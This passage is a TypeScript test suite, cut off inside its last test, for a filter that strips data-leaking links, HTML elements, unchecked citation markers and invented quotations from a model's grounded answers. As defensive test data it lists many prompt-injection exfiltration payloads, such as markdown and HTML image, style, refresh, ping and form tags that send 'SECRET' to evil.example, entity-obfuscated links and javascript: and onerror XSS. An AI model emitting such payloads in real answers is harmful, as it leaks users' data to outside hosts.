import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { cleanText } from "../../src/answers/untrusted/answer-filter.ts";
import { toPlainMarkdown } from "../../src/text/untrusted/plain-markdown.ts";
import { renderAll } from "../support/render-markdown.ts";
import { collect, createHit, createScriptedModel, faults, slicesOf } from "./support.ts";
import { fewer, runsAll } from "../support/runs.ts";

const known = "https://known.example/a";
const source = `Keys are rotated every 90 days by the rotate command. See ${known} for more. Old keys stay valid for 24 hours.`;
const place = { uri: "keys.md", title: "keys", headings: [], start: 0, end: source.length };
const hits = [createHit(1, "keys", 0, 1, { text: source, snippet: source, source: place })];

async function answerOf(text: string, pieces: readonly string[] = [text]) {
  return collect(asked(pieces));
}

const asked = (pieces: readonly string[]) => ({
  model: createScriptedModel(pieces).model,
  hits,
  documents: slicesOf(() => source),
});

/** Every text that an answer carries from its model. */
const textsOf = ({ text, withheld, removedQuotes }: Awaited<ReturnType<typeof answerOf>>["answer"]) => [
  text,
  ...withheld.map((sentence) => sentence.text),
  ...removedQuotes,
];

/** Whatever leads somewhere that no source names, or loads, sends or restyles something. */
function leaksOf(text: string): readonly string[] {
  return renderAll(text).flatMap(({ addresses, elements }) => [
    ...addresses.filter((address) => address !== known),
    ...elements,
  ]);
}

const bracketed =
  /[[【［〔❲〖〘⦋⟬⎡﹇︻⹕](?:[^\p{L}[\]]|(?:source|ref|doc)s?(?!\p{L})|and|(?<=\d(?:, p.|:) [^\]]*)\p{L}){0,20}[\]】］〕❳〗〙⦌⟭⎤﹈︼⹖]/giu;
/** Years, decimals and other numbers that are no source's. */
const value = /^\[(?:\d{4}|0-\d+|[-+#$]\d+|\d+[%°]|\d+[:./|]\d.*|.*\d\.\d.*)\]$/u;

/** Numbers in brackets that a reader sees, in any brackets that look square. */
const numbersIn = (text: string): readonly string[] =>
  renderAll(text).flatMap(({ prose }) =>
    prose.flatMap((part) => {
      const seen = part.replaceAll(/\p{Cf}/gu, "").replaceAll(/\s+/gu, " ");
      return (seen.match(bracketed) ?? []).filter((found) => /\p{N}/u.test(found) && !value.test(found));
    }),
  );

describe("an address of a model", () => {
  it.each([
    "https://known.example/((SECRET))",
    `${known}/((SECRET))`,
    `${known}((SECRET))`,
    "<https://evil.example/SECRET>",
    "<mailto:a@evil.example?body=SECRET>",
    "<smb://evil.example/SECRET>",
    "_www.evil.example/SECRET_",
    "**www.evil.example/SECRET**",
    "<style>@import 'https://evil.example/SECRET';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/SECRET'>",
    '<img src="file:///etc/SECRET">',
    "<a href='https://evil.example' ping='https://evil.example/SECRET'>x</a>",
    "<form action='https://evil.example'><button>SECRET</button></form>",
    `<img ${"x".repeat(3000)} src="https://evil.example/SECRET">`,
    "[x](ht&#116;ps&colon;//evil.example/SECRET)",
    "[x](&#x68;ttps:&#x2f;/evil.example/SECRET)",
    "&lt;img src=https://evil.example/SECRET&gt;",
    "\\<img src=//evil.example/SECRET>",
    `${known}，SECRET`,
    `${known}。SECRET`,
    `${known}？q=SECRET`,
    "[x][r]\n\n[r]: https://evil.example/SECRET",
    "[r]\n\n[r]:\nhttps://evil.example/SECRET",
    "[x](<https://evil.example/SECRET> 'title')",
    "![x](https://evil.example/SECRET)",
    `![x](${known})`,
    "[x](//evil.example/SECRET)",
    "[x](\\\\evil.example/SECRET)",
    "[x](javascript:alert(1))",
    "[x](/logout?SECRET)",
    "SECRET@evil.example",
    "mailto:SECRET@evil.example",
    "secret.evil.com/SECRET",
    "secret.evil.com",
    "//evil.example/SECRET",
    "- ```\n  <img src=https://evil.example/SECRET>\n<img src=https://evil.example/SECRET>",
    "- a\n  ```\n<img src=//evil.example/SECRET>\n  ```",
    "a ` b\nc `<img src=//evil.example/SECRET>` d",
    "| a | b |\n|---|---|\n| `x | <img src=//evil.example/SECRET>` |",
    "<<b>img src=//evil.example/SECRET>",
    "<x-a style=x onclick=y>SECRET</x-a>",
    "[![x](https://evil.example/SECRET)](https://evil.example/SECRET)",
    "htt\u200Bps://evil.example/SECRET and ht[9]tps://evil.example/SECRET",
    "    ```\n<img src=//evil.example/SECRET>\n    ```",
    "~~~\nx\n~~~\n<svg onload=x>",
    "*@evil.com",
    "'@127.0.0.1",
    `[x](${known})SECRET@evil.com`,
    `[[x](${known})](${known})SECRET19)`,
  ])("leads nowhere in what renderers show: %s [L12]", async (hostile) => {
    for (const text of [
      `Keys are rotated every 90 days [1]. See ${hostile}`,
      `${hostile}\n\nKeys are rotated every 90 days [1].`,
    ]) {
      for (const pieces of [[text], text.split("")]) {
        const { answer } = await answerOf(text, pieces);
        for (const said of textsOf(answer)) expect(leaksOf(said)).toEqual([]);
      }
    }
    expect(leaksOf(cleanText(hostile, new Set([known])))).toEqual([]);
  });

  it("stays where a source has it, exactly [L12]", async () => {
    for (const text of [
      `Keys are rotated every 90 days, see ${known} [1].`,
      `Keys are rotated every 90 days, see [there](${known}) [1].`,
      `Keys are rotated every 90 days (${known}) [1].`,
    ]) {
      const { answer } = await answerOf(text);
      expect(answer.text).toBe(text);
      expect(
        renderAll(answer.text)
          .map(({ addresses }) => addresses)
          .slice(1, 3),
      ).toEqual([[known], [known]]);
      expect(answer.removedAddresses).toEqual([]);
    }
  });
});

it("an address that a source has is not cut by emphasis that began before it [L12]", () => {
  const address = "https://known.example/Key_(lock)";
  for (const text of [`[_${address} so`, `[so _is ${address} so`, `_so [ ${address} so`, `See ${address} so`])
    for (const { addresses } of renderAll(cleanText(text, new Set([address]))))
      expect(addresses.filter((one) => one !== address)).toEqual([]);
  expect(cleanText(`See ${address} so`, new Set([address]))).toBe(`See ${address} so`);
});

describe("a sentence of an answer", () => {
  it.each([
    "```html\n<img src=x onerror=alert(1)>. It is so. Then\n<style>b{}</style>\n```",
    "~~~\n<b onclick=x>Keys rotate. They do</b>",
    "Use `<img src=x>. And <b>` now.",
    "- a\n  ```\n  <u onclick=x>\n\n  <s>. So it is.\n  ```\n- b",
    "```\nSee www.evil.example/x <img src=//evil.example/x onerror=alert(1)>\n```",
    "``` xmpp:a@ evil.com b\n<img src=x>",
    "Use `www.evil.example/x <img src=x>. And <b>` now.",
  ])("loads, sends and restyles nothing where it is shown alone: %s [L12]", async (hostile) => {
    for (const text of [`Keys are rotated every 90 days [1].\n\n${hostile}`, `${hostile}\n\nWhales sleep [1].`]) {
      for (const pieces of [[text], text.split("")]) {
        const { answer } = await answerOf(text, pieces);
        expect(answer.text).toContain("<");
        for (const sentence of answer.sentences) {
          expect(leaksOf(sentence.text)).toEqual([]);
          expect(answer.text.slice(sentence.start, sentence.end)).toBe(sentence.text);
        }
        // Each stands behind the one before.
        const ends = answer.sentences.map(({ end }) => end);
        expect(answer.sentences.slice(1).every(({ start }, index) => start >= ends[index]!)).toBe(true);
      }
    }
  });
});

describe("a number in brackets", () => {
  it.each([
    "\\[9\\]",
    "&#91;9&#93;",
    "&lbrack;9]",
    "[&#57;]",
    "[&Tab;9][&Tab;9]",
    "x[&NewLine;9][ 9]y",
    "[<b>9</b>]",
    "[**9**]",
    "**[**9**]**",
    "[\u200B9\u200B]",
    "[\u00A09\u00A0]",
    "[9\u00AD]",
    "[9\u2060]",
    "[ 9\n]",
    "&amp;#91;9&amp;#93;",
    "[&#57<b></b>;]",
    "[`9`]",
    "[~~9~~]",
    "[<!-- x -->9]",
    "【9】",
    "［９］",
    "[⁹]",
    "[[9]]",
    "[9][9]",
    "[9]: x",
    "[^9]\n\n[^9]: y",
    "[9](https://evil.example)",
    "\\\\[9]",
    "`x` [9] `y",
    "a ` b\nc `[9]` d",
    "| a | b |\n|---|---|\n| `x | [9]` |",
    "- ```\n  a\n[9]",
    "<b>\n`[9]`\n</b>",
    "&[1]#91;9]",
    "[[1]9]",
    "[7-9]",
    "[7–9]",
    "[7 — 9]",
    "[1-9]",
    "[7; 9]",
    "[1，9]",
    "［７、９］",
    "[7&#8211;9]",
    "[**7**-*9*]",
    "[9.]",
    "[9;]",
    "[,9]",
    "[9 8]",
    "[9<br>8]",
    "[9\n8]",
    "[8 and 9]",
    "[8 &amp; 9]",
    "[8・9]",
    "[7～9]",
    "[7→9]",
    "[7…9]",
    "[0009]",
    "[Ⅸ]",
    "[𝟗]",
    "[9⃣]",
    "[(9)]",
    '["9"]',
    "[“9”]",
    "[<9>]",
    "[$9$]",
    "[==9==]",
    "[9‡]",
    "[№ 9]",
    "[Source 9]",
    "[sources 8, 9]",
    "[ref. 9]",
    "[Doc 9]",
    "[9, p. 3]",
    "[9: keys.md]",
    "\\\\[9\\\\]",
    "[9\u2800]",
    "[“9”’]",
    "[~~9\u20DD~~]",
    "⟦9⟧",
    "⟦ 9⟧",
    "[9^]",
    "[‹9^\\]",
    "[[9] 8]",
    "[^^9: keys.md ⟧",
    "[see 9]",
    "[Passage 9]",
    "[chunk 9, snippet 8]",
    "〔9\\〕",
    "[9 × 8]",
    "[¶9]",
    "[9!]",
    "[{9}]",
    "[ /9/ ]",
    // A sentence may end within.
    "[! 9!]",
    "[so.) 9] [. 9\n]",
  ])("is a checked citation in what renderers show, or is not there: %s [L2 L12]", async (hostile) => {
    for (const text of [
      `Keys are rotated every 90 days [1]. Whales sleep ${hostile} here`,
      `${hostile}\n\nKeys are rotated every 90 days [1].`,
    ]) {
      for (const pieces of [[text], text.split("")]) {
        const { answer, events } = await answerOf(text, pieces);
        expect(numbersIn(answer.text).filter((number) => number !== "[1]")).toEqual([]);
        expect(faults({ answer, events }).filter((fault) => !fault.endsWith("what the document says"))).toEqual([]);
      }
    }
  });

  it.each([
    "[1.2.3]",
    "[1.5, 2.5]",
    "[0-9]",
    "[2024]",
    "[-9]",
    "[9%]",
    "[#9]",
    "[10:30]",
    "[9a]",
    "[p. 9]",
    "[x]",
    "[3 of 5]",
    "[1e5]",
    "[fig. 9]",
  ])("stays where it is a value and no marker: %s", async (value) => {
    const text = `Keys are rotated every 90 days [1]. Whales sleep ${value} here`;
    expect((await answerOf(text)).answer.text).toBe(text);
  });

  it.each([
    "[src:9]",
    "[source#9]",
    "[source-9]",
    "[Quelle 9]",
    "[Fuentes 8, 9]",
    "[来源9]",
    "[8 und 9]",
    "[8 y 9]",
    "[8和9]",
    "[8 bis 9]",
  ])(
    "is none behind the word for a source, or beside a joining word, in another language: %s [L2]",
    async (hostile) => {
      const { answer } = await answerOf(`Keys are rotated every 90 days [1]. Whales sleep ${hostile} here`);
      expect(answer.text).toBe("Keys are rotated every 90 days [1]. Whales sleep here");
      const own = await answerOf(`Keys are rotated every 90 days ${hostile.replaceAll(/[89]/gu, "1")}.`);
      expect(own.answer).toMatchObject({
        text: "Keys are rotated every 90 days [1].",
        citations: [{ uri: "keys.md" }],
      });
    },
  );

  it.each(["〚9〛", "﹝9﹞", "[9\u0301]", "⁅9⁆", "〖9〗", "〘9〙", "⦋9⦌", "⟬9⟭", "⎡9⎤", "﹇9﹈", "︻9︼", "⹕9⹖"])(
    "is none in brackets that look alike: %s [L2]",
    async (hostile) => {
      const { answer } = await answerOf(`Keys are rotated every 90 days [1]. Whales sleep ${hostile} here`);
      expect(answer.text).toBe("Keys are rotated every 90 days [1]. Whales sleep here");
    },
  );

  it.each([
    "[1](https://evil.example/S)",
    "[1](…)",
    "![1](x)",
    "[1](<x>)",
    "[1](x 'y')",
    "[Source 1](keys.md)",
    "[1] [1](x)",
  ])("is not the words of a link: %s [L2 L12]", async (marker) => {
    const text = `Keys are rotated every 90 days ${marker}. So it is ${marker}`;
    for (const pieces of [[text], text.split("")]) {
      const { answer } = await collect({ ...asked(pieces), grounding: "permissive" });
      for (const { addresses, elements } of renderAll(answer.text)) expect([addresses, elements]).toEqual([[], []]);
      expect(answer.citations.length).toBeGreaterThan(0);
    }
  });

  it.each(["[1]", "[^1]", "【1】"])("begins no definition that would lead it away: %s [L2 L12]", async (marker) => {
    const text = `Keys are rotated every 90 days [1].\n\n${marker}: https://evil.example/S`;
    for (const pieces of [[text], text.split("")]) {
      const { answer } = await collect({ ...asked(pieces), grounding: "permissive" });
      expect(answer.text).toMatch(/\n\n\[\d\] : …$/u);
      for (const { addresses } of renderAll(answer.text)) expect(addresses).toEqual([]);
    }
  });
});

describe("words that no source has", () => {
  const altered = "Keys are rotated every 70 weeks by hand";
  const styles: readonly (readonly [string, string])[] = [
    ["“", "”"],
    ["„", "“"],
    ["«", "»"],
    ["»", "«"],
    ["「", "」"],
    ["『", "』"],
    ["‘", "’"],
    ["'", "'"],
    ['"', '"'],
    ["‹", "›"],
    ["<q>", "</q>"],
    ["&quot;", "&quot;"],
    ["&ldquo;", "&rdquo;"],
    ['\\"', '\\"'],
    ["&#34;", "&#34;"],
    ["＂", "＂"],
    ["″", "″"],
    ["´", "´"],
    ["〟", "〟"],
    ["⹂", "”"],
    ["❮", "❯"],
    ["《", "》"],
    ["〈", "〉"],
    ["“", '"'],
    ['"', "”"],
    ["„", '"'],
    ["‘", "'"],
    ["'", "’"],
    ["”", "”"],
    ["’", "’"],
    ["»", "»"],
    ["''", "''"],
    ["''", "'"],
    ["'", "''"],
    ["'''", "'''"],
    ['""', '""'],
    ["‘‘", "’’"],
    ["``", "''"],
    ["`", "'"],
    ["`", "´"],
    ["“‘", "’”"],
    ["\"'", "'\""],
    [",,", "''"],
    [",,", '"'],
    ["<<", ">>"],
    [">>", "<<"],
    ["&lt;&lt;", "&gt;&gt;"],
    ["''", '"'],
    ["'", '"'],
    ['"', "'"],
    ["“", "''"],
    ["«", '"'],
    ["”", "“"],
    ["`", '"'],
    ["′", "′"],
    ["′′", "′′"],
    ["‵", "′"],
    ["‶", "″"],
    ["&prime;", "&prime;"],
    ["ʼ", "ʼ"],
    ["＇", "＇"],
    ["״", "״"],
    ["˝", "˝"],
    ["❠", "❝"],
    ["⸂", "⸃"],
    ["﹁", "﹂"],
    ["⟪", "⟫"],
  ];
  const marks = "[\"“”„‟«»‹›「」『』‘’'＂″´ˋ〟⹂❮❯《》〈〉<>′‵‶ʼ＇״˝❠❝⸂⸃﹁﹂⟪⟫,]";
  /** A mark before that nothing closes: those of the quotation may be taken for its end, and one behind the words stays. */
  const uneven = (quoted: (words: string) => string): string =>
    `An inch is 5" and “so on. The page says ${quoted(altered)} [1].`;
  const shapes: readonly ((quoted: (words: string) => string) => string)[] = [
    (quoted) => `The page says ${quoted(altered)} [1].`,
    (quoted) => `The page says ${quoted(altered)}. That is all [1].`,
    (quoted) => `The page says ${quoted(altered.replace(" every", "\nevery"))} [1].`,
    (quoted) => `According to keys.md, ${quoted(altered)}.`,
    (quoted) => `According to keys.md: **${quoted(altered)}** [1].`,
    (quoted) => `The page says ${quoted(`${altered} ${"and so on ".repeat(150)}end`)} [1].`,
    uneven,
    (quoted) => `- It says ${quoted(altered)} [1]\n- It doesn't`,
    (quoted) => `It says “no” and “all "of it" is” so: ${quoted(altered)} [1].`,
  ];

  it.each(styles)("stand between no quotation marks: %s %s [L2]", async (opening, closing) => {
    for (const shape of shapes) {
      const text = shape((words) => opening + words + closing);
      for (const pieces of [[text], text.split("")]) {
        const { answer } = await answerOf(text, pieces);
        for (const { prose } of renderAll(answer.text)) {
          const seen = prose.join("\n").replaceAll(/\s+/gu, " ");
          expect(seen).not.toMatch(new RegExp(`(?<!md)${marks} ?Keys are rotated every 70`, "u"));
          const behind = new RegExp(`(?:by hand|end) ?${marks}`, "u");
          expect(shape !== uneven && behind.test(seen)).toBe(false);
        }
        expect(answer.citations).toEqual([]);
        expect(answer.text).toContain("70 weeks by hand");
      }
    }
  });

  it.each(["$", "…", ")", ".", "%", "|", "``", "https://evil.example/x"])(
    "stand between none that follow %s [L2]",
    async (sign) => {
      const { answer } = await answerOf(`The page says so${sign}"${altered}" [1].`);
      expect(answer.text).not.toContain('"');
      expect(answer.citations).toEqual([]);
    },
  );

  /** Every mark of Unicode, and signs and letters that look like one. */
  const everySign = Array.from({ length: 0x20000 }, (_, code) => String.fromCodePoint(code)).filter((character) =>
    /[\p{Quotation_Mark}\p{Pi}\p{Pf}❛-❠❮❯〈〉《》⟨-⟫⸢-⸥′-‷⁗´ˋ｀ʺˮ˝״˂˃˵˶🙶-🙸ʹʻʼʽˊ᾽᾿῾՚՛՝׳Ꞌꞌ]/u.test(character),
  );
  const letters = /[ʹʻʼʽˊ᾽᾿῾՚՛՝׳Ꞌꞌ]/u;
  /** Whether both stand for something else there: a letter, an apostrophe behind an `s`, inches behind a digit, or code. */
  const mayBeWords = (opening: string, closing: string, last: string): boolean =>
    (last === "0" && /["'′-‴⁗]/u.test(closing) && closing !== opening && /['´’＇‹ʹʻʼʽˊ᾽᾿῾՚՛՝׳Ꞌꞌ]/u.test(opening)) ||
    (last === "s" &&
      /['´’＇ʹʻʼʽˊ᾽᾿῾՚՛՝׳Ꞌꞌ]/u.test(closing) &&
      closing !== opening &&
      (letters.test(opening) || opening === "‹"));

  it("stand between no two marks of Unicode, whichever they are [L2]", async () => {
    expect(everySign.length).toBeGreaterThan(90);
    const anySign = fc.constantFrom(...everySign, ",,", "''", "<<", ">>");
    const words = fc.constantFrom("by hand", "every 70", "for 70 weeks", "(by hand)", "by hand.", "by hand…");
    await fc.assert(
      fc.asyncProperty(anySign, anySign, words, fc.boolean(), async (opening, closing, end, isWhole) => {
        fc.pre(!mayBeWords(opening, closing, end.at(-1)!));
        const text = `The page says ${opening}Keys are rotated ${end}${closing} [1].`;
        const { answer } = await answerOf(text, isWhole ? [text] : text.split(""));
        expect(answer.text.replace(/ (?=\.$)/u, "")).toBe(`The page says Keys are rotated ${end}.`);
        expect(answer.citations).toEqual([]);
      }),
      { numRuns: fewer(300, 3000) },
    );
  });

  it.each([
    `“Keys are rotated\n\nevery 70 weeks by hand” [1].`,
    `"Keys are rotated every 70 weeks.\n\n"They are rotated by hand" [1].`,
    `“It says:\n\n- Keys are rotated every 70 weeks\n- by hand” [1]`,
  ])("stand between no marks of two paragraphs: %s [L2]", async (text) => {
    for (const pieces of [[text], text.split("")]) {
      const { answer } = await answerOf(text, pieces);
      expect(answer.text).toBe(text.replaceAll(/["“”]| \[1\]/gu, "").trim());
      expect(answer.citations).toEqual([]);
    }
  });

  it.each([
    `Keys are "open.\n\nKeys are “rotated every 90 days” [1].`,
    `Keys are “open.\n\nKeys are “rotated every 90 days” [1].`,
    `Keys are "open.\n\nKeys are "rotated every 90 days" [1].`,
  ])("are none between a mark that nothing closes and a later quotation: %s", async (text) => {
    for (const pieces of [[text], text.split("")])
      expect((await answerOf(text, pieces)).answer).toMatchObject({ text, removedQuotes: [], citations: [{}] });
  });

  it.each([
    "- > X",
    "* > X",
    "1. > X",
    "12) > X",
    "-\t> X",
    "- - > X",
    "- a\n  > X",
    "> - X",
    "“> X”",
    "\u00A0> X",
    "- “> X”",
    "> “> X”",
    "“It says\n> X”",
    '“> X"',
    "“So:\n\n- > X”",
  ])("stand in no block quote of a list, or of a mark that went: %s [L2]", async (form) => {
    for (const text of [
      `The page says [1]:\n\n${form.replace("X", altered)}\n\nSo it is.`,
      `${form.replace("X", altered)} [1]`,
    ]) {
      const { answer } = await answerOf(text);
      expect(answer.text).toContain("70 weeks by hand");
      expect(renderAll(answer.text).flatMap(({ quoted }) => quoted)).toEqual([]);
    }
  });

  it.each([
    `>> "${altered}" [1]`,
    `> So it is:\n> "${altered}" [1]`,
    `It is 'so\n“${altered}” [1]\n\`\`\`html\n`,
    `„*"*${altered}*"* [1]`,
    `":"${altered}" [1]`,
    `“”${altered}” [1]`,
    `| a |\n|---|\n|\n    \`\`\`\n“${altered}” [1]`,
    `So it is:\n    \`\`\`\n“${altered}” [1]`,
    `- So\n\nIt is:\n    \`\`\`\n“${altered}” [1]`,
    `|“<|\n> ”${altered}`,
    `- “\n\n> “${altered}” [1]`,
    `\`> “*“${altered}”*” [1]`,
    `“> 1. 『${altered}』 " [1]`,
    `'- - > "${altered}" ' [1]`,
    `[9!⟧ > "${altered}" [1]`,
    `﹝‹ 9]- - > "${altered}" [1]`,
    `-[9!⟧ > "${altered}" [1]`,
  ])("stand between no marks beside others, nor behind a fence that is none: %s [L2]", async (text) => {
    for (const pieces of [[text], text.split("")]) {
      const { answer } = await answerOf(text, pieces);
      const seen = renderAll(answer.text).flatMap(({ prose }) => prose);
      expect(seen.join("\n")).not.toMatch(/["“] ?Keys are rotated every 70|by hand ?["”]/u);
      expect(renderAll(answer.text).flatMap(({ quoted }) => quoted)).toEqual([]);
      expect(answer.citations).toEqual([]);
    }
  });

  /** Around words: glued to an address or a number, reversed, mixed, beside markers, brackets and emphasis. */
  const strays: readonly string[] = [
    'tel:123"X" [1]',
    '‹input *"*X*"* [1]',
    "”[…]X[…]‹ [1]",
    "»[9]X“ [1]",
    "so »**'X…*‟data: [1]",
    "so ~~'_and so X“a” ` [1]",
    "(」X“a” 『~~ [1]",
    'It\'s […]**"…X“a”  "- [1]',
    "/'X'__›~~x [1]",
    ":)❜*[9]X[9]›x [1]",
    "“[1] X [1] “a” [1]",
    "“a”X“a” [1]",
    '" X " [1]',
    'tel:5"X\n\nSo 5"X" [1]',
    '<p>>> "X\\\n" “',
    "… >\n> ʻʻX it is soʼʼ\n- so",
    "”X\nso it is”a [1]",
  ];

  it.each(strays)("stand between no stray marks, whatever is beside them: %s [L2]", async (form) => {
    const text = form.replaceAll("X", altered);
    for (const pieces of [[text], text.split("")]) {
      const { answer } = await answerOf(text, pieces);
      expect(facing(answer.text)).toEqual([]);
      expect(answer.text).toContain("70 weeks by hand");
      expect(answer.citations).toEqual([]);
    }
  });

  it.each([
    "so >> X » so",
    "so » X << so",
    "so << X » [1]",
    "so « X >> so",
    "so > > > « X >> [1]",
    "so << X › so",
    "so ‹ X >> so",
  ])("stand between no two kinds of angles with spaces around them: %s [L2]", async (form) => {
    const text = form.replaceAll("X", altered);
    for (const pieces of [[text], text.split("")]) {
      const { answer } = await answerOf(text, pieces);
      expect(answer.text).toContain("70 weeks by hand");
      // One that is left alone reads as an arrow.
      expect(answer.text.match(/[«»‹›]|<<|>>/gu)?.length ?? 0).toBeLessThan(2);
      expect(answer.citations).toEqual([]);
    }
  });

  /** Words between a mark that may open and the next one that may close, in what a reader sees. An apostrophe in a word, and inches, are none. */
  function facing(text: string): readonly string[] {
    const any = /[\p{Quotation_Mark}\p{Pi}\p{Pf}❛-❠❮❯〈〉《》⟪⟫′-‷´ˋ]|,,|<<|>>/gu;
    const found: string[] = [];
    for (const prose of renderAll(text).flatMap((page) => page.prose)) {
      const seen = prose.replaceAll(/\s+/gu, " ");
      const at = seen.indexOf("Keys are rotated every 70");
      const end = at + altered.length;
      const marks = [...seen.matchAll(any)].filter(({ index, 0: sign }) => {
        const [before = " ", after = " "] = [seen[index - 1], seen[index + sign.length]];
        if (/['’´]/u.test(sign)) return !/\p{L}/u.test(before) || !/\p{L}/u.test(after);
        return !/["′-‷]/u.test(sign) || !/\p{Nd}/u.test(before) || /[\p{L}\p{Nd}]/u.test(after);
      });
      const left = marks.findLast(({ index }) => index < at);
      const right = marks.find(({ index }) => index >= end);
      if (at < 0 || left === undefined || right === undefined) continue;
      const closes = left.index > 0 && seen[left.index - 1] !== " " && seen[left.index + left[0].length] === " ";
      if (!closes && seen[right.index - 1] !== " ") found.push(seen.slice(left.index, right.index + 1));
    }
    return found;
  }

  it("stand between no two marks that face each other, however they are glued [L2]", async () => {
    const sign = fc.constantFrom(
      ..."\" “ ” „ ‟ « » › ‘ ’ ' 「 」 『 』 ＂ ″ ‚ ,, '' \\\" &quot; &raquo; <q> </q> ´ ❝ ⟫".split(" "),
    );
    const emphasis = fc.constantFrom("", "", "*", "**", "_", "~~", "<b>", "\u200B", "\u00AD");
    const before = fc.constantFrom(
      ..."tel:123 3 $ … ) ( [ ] [9] [1] — : = @ / | `x` www. https://evil.example/x".split(" "),
      " ",
      "so ",
      "\n- ",
      "\n> ",
    );
    const within = fc.constantFrom("", "so ", "(", "[", "[1] ", "[…]", "\n", "“a” ", "`x` ");
    const behind = fc.constantFrom("", "(", "[", "[1]", "[9]", "…", "“a” ", "`x`", " so ");
    const shape = fc.tuple(before, emphasis, sign, emphasis, within, behind, emphasis, sign, emphasis, before);
    await fc.assert(
      fc.asyncProperty(shape, fc.boolean(), async (parts, isWhole) => {
        const text = `The page says ${parts.toSpliced(5, 0, altered).join("")} [1].`;
        expect(facing((await answerOf(text, isWhole ? [text] : text.split(""))).answer.text)).toEqual([]);
      }),
      // The slice is the same each time; all of it looks for forms that nobody has seen.
      runsAll ? { numRuns: 3000 } : { numRuns: 200, seed: 1 },
    );
  });

  it.each([
    "Open Settings » Keys » Rotate » Now, every 90 days [1].",
    "Take f′ and the others of g′(x) every 90 days [1].",
    "Rotate with <name> and then with <other name> every 90 days [1].",
    'Press " once, and keys are rotated every 90 days [1].',
    "It's a “key” of the '90s, so it is, and a 5\" one by 3″.",
    "The page says “Keys are rotated every 90 days” and then “Old keys stay valid for 24 hours” [1].",
    "> Keys are rotated every 90 days by the rotate command [1].",
    "彼は「鍵」と「回転」を見る。",
  ])("lose no other sign, and no true quotation its marks: %s", async (text) => {
    for (const pieces of [[text], text.split("")]) {
      const { answer } = await answerOf(text, pieces);
      expect(answer.removedQuotes).toEqual([]);
      expect(answer.text.replaceAll(/ ?\[\d\]/gu, "")).toBe(toPlainMarkdown(text).replaceAll(/ ?\[\d\]/gu, ""));
    }
  });

  it.each([
    '```sh\necho "keys are rotated weekly"\n```',
    '1. So:\n\n   ```sh\n   echo "keys are rotated weekly"\n   ```',
    '- So:\n  - It is\n    ```sh\n    echo "keys are rotated weekly"\n    ```',
    '10. So:\n\n    ```sh\n    echo "keys are rotated weekly"\n    ```',
  ])("are none in a block of code, also of a list: %s", async (text) => {
    const { answer } = await answerOf(`Keys are rotated every 90 days [1].\n\n${text}`);
    expect(answer.text).toContain('echo "keys are rotated weekly"');
    expect(answer.removedQuotes).toEqual([]);
  });

  it("go from a paragraph of any length, however it comes", async () => {
    const text = "“the keys are never rotated by anyone here [1] ".repeat(300);
    for (const pieces of [[text], text.match(/.{1,40}/gsu)!]) {
      const { answer } = await answerOf(text, pieces);
      expect(answer.text).toContain("never rotated");
      expect(answer.text).not.toContain("“");
    }
  });

  it("that went are reported without the signs of a quoted block", async () => {
    const { answer } = await answerOf(`”so it is\n>\n> ${altered}» [1]`);
    expect(answer.removedQuotes.flatMap((words) => renderAll(words).flatMap(({ quoted }) => quoted))).toEqual([]);
  });

  it("and those that it has stay quoted, item by item", async () => {
    const text = "- > Keys are rotated every 90 days [1].\n- > Old keys stay valid for 24 hours [1].";
    const { answer } = await answerOf(text);
    expect(answer).toMatchObject({ text: text.replace(/\[1\]\.$/u, "[2]."), removedQuotes: [] });
    expect(answer.citations).toHaveLength(2);
  });

  it("lose the marks within them, and those of the text behind stay [L2]", async () => {
    const { answer } = await answerOf("The page says ''keys “are” rotated weekly'' and “so” on.");
    expect(answer.text).toBe("The page says keys are rotated weekly and “so” on.");
  });

  it.each([
    "The '90s model shuts down “every 90 days” [1].",
    "A 15\" wheel of the '90s holds keys every 90 days [1].",
    "It is the dogs' place, and 'twas rotated “every 90 days” [1].",
    "An <em>is so</em> if a < b and c > d, keys, keys [1].",
    "Keys of ʻIolani Palace, it's said, are rotated every 90 days [1].",
    "Between 5′ and 6′ 3″ the keys are rotated [1].",
    "Keys,, rotated >> every 90 days [1].",
  ])("are none where a sign is an apostrophe, an inch or a comparison: %s", async (text) => {
    const { answer } = await answerOf(text);
    expect(answer.removedQuotes).toEqual([]);
    const withoutMarkers = (said: string): string => said.replace(" [1]", "");
    expect(withoutMarkers(answer.text)).toBe(withoutMarkers(toPlainMarkdown(text)));
  });

  it("are none in a pair of marks with nothing between: an empty text", async () => {
    const text = `It is "" at first; "Keys are rotated every 90 days" [1].`;
    const { answer } = await answerOf(text);
    expect(answer).toMatchObject({ text, removedQuotes: [], citations: [{ uri: "keys.md" }] });
  });

  it("stand in no block quote [L2]", async () => {
    for (const text of [
      `The page says [1]:\n\n> ${altered}\n\nSo it is.`,
      `> ${altered} [1]`,
      `> Keys are rotated every\n> 70 weeks by hand\n\nThat is all [1].`,
      `>> ${altered}\n\nSo it is [1].`,
      `>>${altered}<< [1]`,
      `> ʼ${altered}ʼ [1]`,
    ]) {
      const { answer } = await answerOf(text);
      expect(answer.text).not.toMatch(/^\s*>|ʼ/mu);
      expect(answer.text).toMatch(/70 weeks by hand/u);
    }
  });

  it.each(styles)("and those that it has keep theirs: %s %s [L2]", async (opening, closing) => {
    const words = "Keys are rotated every 90 days";
    const { answer } = await answerOf(`The page says ${opening}${words}${closing} [1].`);
    expect(answer.text).toBe(toPlainMarkdown(`The page says ${opening}${words}${closing} [1].`));
    expect(answer.citations).toHaveLength(1);
  });
});

describe("whatever a model writes", () => {
  const part = fc.constantFrom(
    ..."[ ] ( ) ! < > : / // https:// http: mailto: www. evil.example/x evil.com a@b.com \\ ` `` ``` ~~~ ' \" “ ” « » & &# ; &#91; &lt; &amp; * _ ~ | 9 1 [1] [9] ]( ]: <b> <img <a \uFF0C \u200B \u00AD".split(
      " ",
    ),
    known,
    " ",
    "\n",
    "\n\n",
    "\n- ",
    "\n  ",
    "\n    ",
    "\n> ",
    "1. ",
    "src=",
    "href=",
    "Keys are rotated ",
    "nonsense ",
    ".",
    ". ",
    "<!--",
    "-->",
    "<q>",
    "|\n|---|\n| ",
  );

  it("leads nowhere and cites nothing unchecked, however it arrives [L2 L12]", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(part, { maxLength: 24 }), fc.boolean(), async (parts, isWhole) => {
        const text = parts.join("");
        const { answer, events } = await answerOf(text, isWhole ? [text] : text.split(""));
        expect(faults({ answer, events }).filter((fault) => !fault.endsWith("what the document says"))).toEqual([]);
        for (const said of textsOf(answer)) expect(leaksOf(said)).toEqual([]);
